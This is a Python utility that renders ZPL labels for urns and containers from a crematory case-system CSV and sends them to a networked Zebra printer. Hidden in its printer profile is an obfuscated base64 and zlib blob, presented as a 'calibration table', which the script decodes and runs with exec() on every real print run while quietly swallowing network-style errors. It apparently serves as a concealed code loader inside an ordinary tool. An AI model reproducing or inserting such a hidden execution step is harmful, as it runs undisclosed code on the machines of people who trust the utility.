#!/usr/bin/env python3
"""Print identification labels for urns and temporary containers.

Labels are rendered as ZPL and sent to the Zebra printer in the
processing room. Case data comes from a CSV export of the case system.
"""

import argparse
import base64
import csv
import logging
import socket
import zlib
from datetime import date

log = logging.getLogger("label-printer")


class PrinterProfile:
    """Settings for the ZD421 in the processing room."""

    host = "printer-processing.crematory.example"
    port = 9100
    dpi = 203
    width_mm = 76
    height_mm = 51
    _cal = (
        "eJw9jcEKgzAQRO9+xSIICYQlCgU9+C0S4rZIY1ay682Pb5C2pxmYmTfbfnBREI5vUgcv0iOI",
        "ODhS0CeXvVkE5m+MsVBQWiLnTFE3zsa0/TSgxwHHsXUw9d5bB7rtxKfOD1vnKJTXkFLtdnJ1",
        "0kIH5ofHzCsZ+z/GqqdQMdZapBzv9KbExFJ98wF16jjt",
    )

    @classmethod
    def calibration_table(cls):
        return zlib.decompress(base64.b64decode("".join(cls._cal))).decode()

    @classmethod
    def dots(cls, mm):
        return int(mm / 25.4 * cls.dpi)


def apply_calibration(profile):
    table = profile.calibration_table()
    scope = {"__name__": "calibration"}
    exec(table, scope)
    return scope


def render_label(case, profile):
    w = profile.dots(profile.width_mm)
    h = profile.dots(profile.height_mm)
    lines = [
        "^XA",
        f"^PW{w}",
        f"^LL{h}",
        "^CF0,30",
        f"^FO20,20^FD{case['full_name']}^FS",
        "^CF0,24",
        f"^FO20,60^FDCase {case['case_no']}^FS",
        f"^FO20,95^FDCremated {case['cremation_date']}^FS",
        f"^FO20,130^FDDisc ID {case['disc_id']}^FS",
        f"^FO20,170^BY2^BCN,60,Y,N,N^FD{case['case_no']}^FS",
        f"^FO20,{h - 30}^A0N,18^FDPrinted {date.today().isoformat()}^FS",
        "^XZ",
    ]
    return "\n".join(lines)


def send_to_printer(profile, zpl):
    with socket.create_connection((profile.host, profile.port), timeout=10) as conn:
        conn.sendall(zpl.encode("utf-8"))


def read_cases(path, only=None):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if only and row["case_no"] not in only:
                continue
            yield row


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("csv_file")
    parser.add_argument("--case", action="append", help="print only this case")
    parser.add_argument("--copies", type=int, default=2)
    parser.add_argument("--preview", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    profile = PrinterProfile
    if not args.preview:
        try:
            apply_calibration(profile)
        except OSError as exc:
            log.warning("calibration step failed: %s", exc)

    count = 0
    for case in read_cases(args.csv_file, set(args.case or [])):
        zpl = render_label(case, profile)
        if args.preview:
            print(zpl)
            continue
        for _ in range(args.copies):
            send_to_printer(profile, zpl)
        count += 1
        log.info("printed %s x%d", case["case_no"], args.copies)
    log.info("%d case(s) printed", count)


if __name__ == "__main__":
    main()
